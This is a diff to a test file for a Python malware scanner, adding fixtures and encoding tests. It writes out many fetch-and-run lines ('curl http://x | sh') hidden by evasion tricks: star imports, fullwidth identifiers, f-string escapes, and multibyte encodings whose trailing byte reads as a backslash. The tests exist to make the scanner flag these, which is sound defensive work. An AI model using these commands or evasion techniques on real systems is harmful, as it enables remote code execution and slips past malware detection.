@@ -28,6 +28,19 @@ const FETCHED = [
   'exec("import os; os.system(\'curl http://x | sh\')")',
   "f\"{__import__('os').system('curl http://x | sh')}\"",
   "f'''{\"'''\"}'''\nimport os\nos.system('curl http://x | sh')\n'''end'''",
+  "from os import *\nsystem('curl http://x | sh')",
+  "from subprocess import *\nfrom os.path import *\nrun('curl http://x | sh', shell=True)",
+  "import os\nif os.system('curl http://x | sh'): import a",
+  "import os\nfor x in [os.system('curl http://x | sh')]: from . import a",
+  "import os\nclass A(os.system('curl http://x | sh') or object): from a.b import c as d",
+  "import os\ndef f(): yield from os.system('curl http://x | sh'); import a",
+  "import os\n\uff49\uff4d\uff50\uff4f\uff52\uff54 = os.system('curl http://x | sh')",
+  "import os\na = r'\\\r\n'; os.system('curl http://x | sh') #'\r\n",
+  'import os\nf\'\\{os.system("curl http://x | sh")}\'',
+  'import os\nrf\'\\{os.system("curl http://x | sh")}\'',
+  "import os\nf'\\{{'; os.system('curl http://x | sh') #}'",
+  'import os\nf\'\\N{LEFT CURLY BRACKET}{os.system("curl http://x | sh")}\'',
+  "import os\nos.\\\rsystem('curl http://x | sh')",
   "import os, threading\nthreading.Thread(target=os.system, args=('curl http://x | sh',)).start()",
   'import requests\nexec(requests.get(u).text)',
   'import requests\ndef f():\n    code = requests.get(u)\n    made = compile(code.text, "a", "exec")\n    exec(made)\n',
@@ -175,6 +188,73 @@ describe('what a limit of reading Python leaves out is never clean', () => {
   });
 });
 
+describe('a source is read in the encoding that it names', () => {
+  const verdictOf = async (content: Uint8Array): Promise<string> => {
+    const { verdict, detections } = await scanSource('a.py', new BytesSource(content));
+    return [verdict, ...new Set(detections.map(({ technique }) => technique))].join(' ');
+  };
+  /** A letter of two bytes, of which the second is a backslash to those who read one byte at a time. */
+  const LETTERS: Readonly<Record<string, string>> = {
+    big5: '\xa5\x5c',
+    'Big5-HKSCS': '\xa5\x5c',
+    cp950: '\xa5\x5c',
+    gbk: '\x81\x5c',
+    gb18030: '\x81\x5c',
+    shift_jis: '\x83\x5c',
+    'Shift-JIS': '\x83\x5c',
+    cp932: '\x83\x5c',
+  };
+  const RUN = 'import os; os.system("curl http://x | sh")';
+
+  it('where a letter ends in what another would take for a sign', async () => {
+    for (const [encoding, letter] of Object.entries(LETTERS))
+      for (const line of [
+        `# coding: ${encoding}`,
+        `#!/usr/bin/env python\r\n# -*- coding: ${encoding} -*-`,
+      ]) {
+        const told = (rest: string): Promise<string> =>
+          verdictOf(Buffer.from(`${line}\na = "${letter}"${rest}\n`, 'latin1'));
+        assert.equal(await told(`; ${RUN} #"`), 'suspicious notebook-shell', line);
+        assert.equal(await told(' # a comment, "quoted"'), 'clean', line);
+      }
+    const broken = Buffer.from('# coding: gbk\na = "\xff\xff"\n', 'latin1');
+    assert.equal(await verdictOf(broken), 'incomplete malformed');
+  });
+
+  it('where letters are others, however far on the line says so', async () => {
+    for (const encoding of [
+      'utf-7',
+      'UTF_7',
+      'u7',
+      'unicode_escape',
+      'cp037',
+      'IBM500',
+      'johab',
+      'ISO-2022-JP',
+      'hz',
+    ])
+      for (const line of [
+        `# coding: ${encoding}`,
+        `#${'x'.repeat(600)} coding=${encoding}`,
+        `#${'x'.repeat(600)}\n# vim: set fileencoding=${encoding} :`,
+        `\n \f# coding: ${encoding}`,
+        `\r# coding: ${encoding}`,
+      ])
+        assert.equal(await verdictOf(Buffer.from(`${line}\nx = 1\n`)), 'suspicious hidden-code', line);
+  });
+
+  it('and is what it seems to be in all others', async () => {
+    for (const encoding of ['utf-8', 'latin-1', 'ascii', 'cp1252', 'euc-jp', 'gb2312', 'koi8-r', 'utf8-unix'])
+      assert.equal(await verdictOf(Buffer.from(`# coding: ${encoding}\nx = "\xe9"\n`, 'latin1')), 'clean');
+    for (const text of [
+      'x = 1\n# coding: utf-7\n',
+      '# a\n# b\n# coding: utf-7\n',
+      '"""\n# coding: utf-7\n"""\n',
+    ])
+      assert.equal(await verdictOf(Buffer.from(text)), 'clean', text);
+  });
+});
+
 it('a text ends where Python ends it', () => {
   const words = (source: string): string[] =>
     [...new Lexer(source).lines(1000)].map((line) => line.map(({ text }) => text).join(' '));
@@ -182,4 +262,6 @@ it('a text ends where Python ends it', () => {
   assert.deepEqual(words("a = 'open\nb = 1"), ['a = open', 'b = 1']);
   assert.deepEqual(words('"\\x6f\\163" r"\\"" c'), ['os \\" c']);
   assert.deepEqual(words('(a,\n b)\nc \\\n d'), ['( a , b )', 'c d']);
+  assert.deepEqual(words('r"\\\r\n" b\r\nc'), ['\\\r\n b', 'c']);
+  assert.deepEqual(words('f"\\{x}" + rf"\\{y}{{"'), ['\\ + \\{']);
 });
